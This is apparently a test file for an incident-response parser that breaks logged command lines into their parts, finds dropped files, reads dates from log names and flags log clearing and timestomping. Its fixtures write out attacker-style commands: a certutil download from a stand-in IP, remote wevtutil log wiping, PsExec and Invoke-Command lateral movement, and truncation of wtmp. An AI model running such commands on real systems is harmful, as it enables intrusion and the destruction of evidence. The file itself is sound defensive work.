// Commands that a line hands on, what they lay, and days that names of files tell.
import { strict as assert } from 'node:assert';
import { test } from 'node:test';
import { commandsOf, commandsOfScript, encodedScript } from '../src/incident/graph/commands.js';
import { laidBy } from '../src/incident/graph/laid.js';
import { sshTargets } from '../src/incident/graph/ssh.js';
import { commandedTrace } from '../src/incident/scope/traces.js';
import { dated } from '../src/incident/scope/day-files.js';
import { plainAddress } from '../src/entities/index.js';

const flat = (line: string): string[] =>
  commandsOf(line).map((c) => (c.target === '' ? c.text : `${c.target}: ${c.text}`));

test('a line is told apart into what each command would be alone, with the machine that it is for', () => {
  assert.deepEqual(flat('cmd.exe /c del /f /q C:\\a.log & rd /s /q "C:\\x y"').slice(1), [
    'del /f /q C:\\a.log',
    'rd /s /q "C:\\x y"',
  ]);
  assert.deepEqual(flat('wmic /node:"SQL01" process call create "cmd.exe /c wevtutil cl Security"').slice(1), [
    'SQL01: cmd.exe /c wevtutil cl Security',
    'SQL01: wevtutil cl Security',
  ]);
  assert.deepEqual(flat('PsExec64.exe -accepteula \\\\WS114 -u corp\\svc -p "a b" -s cmd.exe /c ver').slice(1), [
    'WS114: cmd.exe /c ver',
    'WS114: ver',
  ]);
  assert.deepEqual(flat('powershell -nop -c "Remove-Item C:\\a -Force; dir"').slice(1), [
    'Remove-Item C:\\a -Force',
    'dir',
  ]);
  assert.deepEqual(flat('Invoke-Command -ComputerName DC01 -ScriptBlock { ntdsutil x; exit }').slice(1), [
    'DC01: ntdsutil x',
    'DC01: exit',
  ]);
  assert.deepEqual(flat('sudo -u root bash -c "rm -rf /var/tmp/.s; history -c"').slice(2), [
    'rm -rf /var/tmp/.s',
    'history -c',
  ]);
  assert.deepEqual(flat('ssh -i k root@db02 "rm -f /x; y"').slice(1), ['db02: rm -f /x; y']);
  assert.deepEqual(flat('echo "a & b" 2>&1'), ['echo "a & b" 2>&1'], 'what stands in quotes separates nothing');
  assert.equal(
    encodedScript(`powershell -enc ${Buffer.from('Get-Date; exit', 'utf16le').toString('base64')}`),
    'Get-Date; exit',
  );
  assert.equal(encodedScript('tool -e AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA'), '', 'bytes that are no text are no script');
  assert.equal(commandsOfScript('Remove-Item C:\\a\r\nwevtutil cl Security').length, 2);
});

test('a line that was made to be slow is not', () => {
  for (const [piece, n] of [
    ['wmic /node:a ', 3000],
    ['psexec \\\\a -u ', 3000],
    ['invoke-command -computername a -scriptblock {', 900],
    ['sudo ', 8000],
    ['env A=b ', 4000],
    ['start "" /b ', 3000],
    ['"', 32_000],
    ['powershell -enc AAAA', 2000],
  ] as const) {
    const began = process.cpuUsage().user;
    commandsOf(piece.repeat(n));
    laidBy(piece.repeat(n));
    assert.ok(process.cpuUsage().user - began < 1e6, piece);
  }
});

test('files that a command lays: where, on which machine, of what, from where', () => {
  const one = (line: string) => laidBy(line)[0];
  assert.deepEqual(one('certutil -urlcache -split -f http://192.0.2.7/a.exe C:\\ProgramData\\b.exe'), {
    path: 'C:\\ProgramData\\b.exe',
    host: '',
    from: '',
    url: 'http://192.0.2.7/a.exe',
  });
  assert.deepEqual(one('copy C:\\x\\t.exe \\\\SRV02\\C$\\Windows\\Temp\\'), {
    path: 'C:\\Windows\\Temp\\t.exe',
    host: 'SRV02',
    from: 'C:\\x\\t.exe',
    url: '',
  });
  assert.equal(one('copy a.exe \\\\SRV02\\ADMIN$\\b.exe')?.path, 'c:\\windows\\b.exe');
  assert.equal(
    one('Invoke-WebRequest -Uri https://example.org/i.ps1 -OutFile C:\\Temp\\i.ps1')?.url,
    'https://example.org/i.ps1',
  );
  assert.equal(one('cp -p /var/tmp/a /usr/lib/x/b')?.from, '/var/tmp/a');
  assert.deepEqual(laidBy('copy /?'), []);
  assert.deepEqual(sshTargets('ssh -i /k -o StrictHostKeyChecking=no deploy@10.0.0.9 id'), ['10.0.0.9']);
});

test('days in names of files', () => {
  const day = (t: string): number =>
    Date.UTC(...(t.split('-').map((x, i) => Number(x) - (i === 1 ? 1 : 0)) as [number, number, number])) / 86_400e3;
  for (const [name, pattern, at] of [
    ['u_ex260213.log', 'u_ex*.log', '2026-02-13'],
    ['localhost_access_log.2026-02-13.txt', 'localhost_access_log.*.txt', '2026-02-13'],
    ['access.log-20260213', 'access.log-*', '2026-02-13'],
    ['access_2026_02_13.log', 'access_*.log', '2026-02-13'],
  ] as const)
    assert.deepEqual(dated(name), { pattern, day: day(at) }, name);
  for (const name of [
    'access.log.1',
    'u_ex26021307.log',
    'x-20261399.log',
    'Security.evtx',
    'HttpProxy_2021090201-1.LOG',
  ])
    assert.equal(dated(name), null, name);
});

test('addresses with a port behind them', () => {
  for (const [given, plain] of [
    ['192.0.2.1:443', '192.0.2.1'],
    ['[2001:db8::1]:443', '2001:db8:0:0:0:0:0:1'],
    ['[2001:db8::1]', '2001:db8:0:0:0:0:0:1'],
    ['::ffff:192.0.2.1', '192.0.2.1'],
  ] as const)
    assert.equal(plainAddress(given), plainAddress(plain));
  assert.equal(plainAddress('192.0.2.1:443'), '192.0.2.1');
});

const taken = (line: string): string | null => {
  const t = commandedTrace(line.toLowerCase(), line);
  return t === null ? null : `${t.kind} ${t.what}`;
};

test('what a command takes away on Linux, by its last path; nothing where it only reads', () => {
  assert.equal(taken("sed -i '/10\\.0/d' /var/log/auth.log"), "other sed -i '/10\\.0/d' /var/log/auth.log");
  assert.equal(
    taken('/bin/sed --in-place=.b -e 1d /var/log/secure'),
    'other /bin/sed --in-place=.b -e 1d /var/log/secure',
  );
  assert.equal(taken("sed -n '/x/p' /var/log/auth.log"), null);
  assert.equal(taken('truncate -s 0 /var/log/wtmp'), 'log_cleared /var/log/wtmp');
  assert.equal(taken('truncate --no-create --size=0 /var/log/btmp'), 'log_cleared /var/log/btmp');
  assert.equal(taken('touch -r /bin/ls /usr/lib/.x'), 'timestomp /usr/lib/.x');
  assert.equal(taken('touch --date=2020-01-01 /opt/a'), 'timestomp /opt/a');
  assert.equal(taken('touch /opt/a'), null);
});

test('a command that was made to be slow to look at is not', () => {
  for (const [head, tail] of [
    ['sed -i ', '/'],
    ['sed -i', 'i'],
    ['touch -d ', '/'],
    ['touch -t', 't'],
    ['truncate ', 'a '],
    ['truncate -s ', '-s '],
  ] as const) {
    const line = `${head.repeat(1000)}${tail.repeat(24_000 / tail.length)} !`;
    const t = performance.now();
    commandedTrace(line, line);
    assert.ok(performance.now() - t < 5_000, head);
  }
});
